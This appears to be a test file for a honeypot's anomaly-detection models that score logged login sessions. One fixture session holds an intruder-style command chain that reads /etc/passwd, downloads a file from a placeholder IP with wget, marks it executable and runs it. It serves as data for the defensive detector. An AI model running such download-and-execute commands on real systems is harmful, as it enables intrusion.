import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPostgresEventLog, type PostgresEventLog } from '../../event-log/postgres-event-log.ts';
import { makeEvent, testUuid } from '../../sessions/make-event.ts';
import { silentLog } from '../../storage/log.ts';
import { createTestDatabase, type TestDatabase } from '../../storage/test-database.ts';
import { evaluateFromLog } from './evaluate-from-log.ts';
import { addEvaluation, listEvaluations } from './evaluation-store.ts';
import { loadModelFamily } from './model-families.ts';
import { createModelStore, type ModelStore } from './model-store.ts';
import { tokensOf } from './session-tokens.ts';
import { readTrainingRows, readTrainingSequences } from './session-training-data.ts';
import { trainFromLog } from './train-from-log.ts';
import type { TrainingOptions } from './train-in-worker.ts';
import { type TrainedModel, trainModel } from './train-model.ts';

const SESSIONS = 80;
const T0 = Date.parse('2026-05-01T10:00:00.000Z');

/** Sessions that try a password and leave; the last runs commands instead. */
function sessionEvents(index: number) {
  const session = `session ${index}`;
  const at = (second: number): string => new Date(T0 + index * 60_000 + second * 1_000).toISOString();
  const opened = makeEvent('session.opened', {}, { session, at: at(0) });
  const closed = makeEvent('session.closed', { reason: 'client-closed', durationMs: 9_000 }, { session, at: at(9) });
  const done =
    index === SESSIONS - 1
      ? ['uname -a', 'cat /etc/passwd', 'wget http://192.0.2.1/x', 'chmod +x x', './x'].map((input, second) =>
          makeEvent('command.entered', { input, channel: 'shell' }, { session, at: at(1 + second) }),
        )
      : [
          makeEvent(
            'credential.tried',
            { method: 'password', username: 'root', secret: `${index}`, accepted: false },
            { session, at: at(1 + (index % 7)) },
          ),
        ];
  return [opened, ...done, closed];
}

/** On this thread: starting another costs more than the training. */
const trainHere = async ({ kind, data, parameters, seed }: TrainingOptions): Promise<TrainedModel> =>
  trainModel(await loadModelFamily(kind), data, parameters, { seed });

describe('a model of the sessions in the log', () => {
  let test: TestDatabase;
  let eventLog: PostgresEventLog;
  let models: ModelStore;

  beforeAll(async () => {
    test = await createTestDatabase();
    eventLog = createPostgresEventLog({ database: test.database, log: silentLog });
    models = createModelStore({ database: test.database, appendWithin: eventLog.appendWithin });
    await eventLog.append(Array.from({ length: SESSIONS }, (_, index) => sessionEvents(index)).flat());
    await eventLog.append([makeEvent('session.opened', {}, { session: 'still open' })]);
  });
  afterAll(async () => {
    await eventLog.stop();
    await test.drop();
  });

  const train = (changes: { seed?: number; parameters?: Record<string, unknown>; maxSessions?: number } = {}) =>
    trainFromLog({
      kind: 'isolation-forest',
      name: 'forest',
      parameters: { trees: 40 },
      seed: 3,
      maxSessions: 1_000,
      readEvents: eventLog.read,
      models,
      train: trainHere,
      now: () => T0,
      ...changes,
    });

  it('reads the newest ended sessions, oldest first, and the same rows each time', async () => {
    const { sessionIds, data: rows } = await readTrainingRows(eventLog.read, 3);
    expect(sessionIds).toEqual([SESSIONS - 3, SESSIONS - 2, SESSIONS - 1].map((index) => testUuid(`session ${index}`)));
    expect(rows.values).toHaveLength(3 * rows.width);
    expect((await readTrainingRows(eventLog.read, 3)).data).toEqual(rows);
  });

  it('reads what happened in them, event by event', async () => {
    const { sessionIds, data } = await readTrainingSequences(eventLog.read, 2);
    expect(sessionIds).toEqual([SESSIONS - 2, SESSIONS - 1].map((index) => testUuid(`session ${index}`)));
    expect(data.tokens.slice(data.offsets[1])).toEqual(tokensOf(sessionEvents(SESSIONS - 1)));
  });

  it('is the same for the same log, parameters and seed, finds the session that is unlike the others and says why', async () => {
    const [first, second] = [await train(), await train()];
    expect(first.metrics).toMatchObject({ learnedFrom: 64, heldOut: 16, trees: 40 });
    expect([second.version, second.weightsSha256, second.trainingDataSha256]).toEqual([
      2,
      first.weightsSha256,
      first.trainingDataSha256,
    ]);
    const odd = testUuid(`session ${SESSIONS - 1}`);
    const evaluation = await evaluateFromLog({
      model: await models.load(first.id),
      readEvents: eventLog.read,
      maxSessions: 1_000,
      shown: 2,
      labels: new Map([
        [odd, true],
        [testUuid('session 1'), false],
        [testUuid('session 2'), false],
      ]),
    });
    expect(evaluation).toMatchObject({
      sessions: SESSIONS,
      labelled: { anomalous: 1, ordinary: 2, areaUnderRoc: 1, averagePrecision: 1 },
    });
    expect(evaluation.ranks.at(-1)).toEqual({ expected: 1, observed: 1 });
    expect(evaluation.highest.map(({ sessionId }) => sessionId)[0]).toBe(odd);
    expect(evaluation.highest[0]?.because).toHaveLength(5);
    expect(evaluation.highest).toHaveLength(2);
    const kept = await addEvaluation(test.database, evaluation, T0);
    const later = await addEvaluation(test.database, evaluation, T0 + 1);
    await addEvaluation(test.database, { ...evaluation, model: { ...evaluation.model, id: second.id } }, T0);
    expect(await listEvaluations(test.database, { modelId: first.id })).toEqual([later, kept]);
    expect(await listEvaluations(test.database)).toHaveLength(3);
  });

  it('of the kind that reads sequences names the events that surprised it', async () => {
    const trained = await trainFromLog({
      kind: 'lstm',
      name: 'events',
      parameters: { members: 1, hidden: 16, epochs: 2, leastUpdates: 60 },
      seed: 3,
      maxSessions: 1_000,
      readEvents: eventLog.read,
      models,
      train: trainHere,
      now: () => T0,
    });
    const model = await models.load(trained.id);
    const { highest } = await evaluateFromLog({ model, readEvents: eventLog.read, maxSessions: 1_000, shown: 1 });
    expect(highest.map(({ sessionId }) => sessionId)).toEqual([testUuid(`session ${SESSIONS - 1}`)]);
    expect(highest[0]?.because.every(({ feature, share }) => trained.features.includes(feature) && share > 0)).toBe(
      true,
    );
  });

  it('is refused when there is too little to learn from, or a parameter is none', async () => {
    await expect(train({ maxSessions: 20 })).rejects.toMatchObject({
      code: 'conflict',
      message: 'A model needs 50 ended sessions at least; the log has 20.',
    });
    await expect(train({ parameters: { branches: 4 } })).rejects.toMatchObject({ code: 'invalid-request' });
  });

  it('is not used where features mean something else', async () => {
    const model = await models.load((await models.find('forest'))?.id ?? '');
    const older = { ...model, artefact: { ...model.artefact, featuresVersion: '0' } };
    await expect(
      evaluateFromLog({ model: older, readEvents: eventLog.read, maxSessions: 10, shown: 1 }),
    ).rejects.toMatchObject({ code: 'conflict' });
  });
});
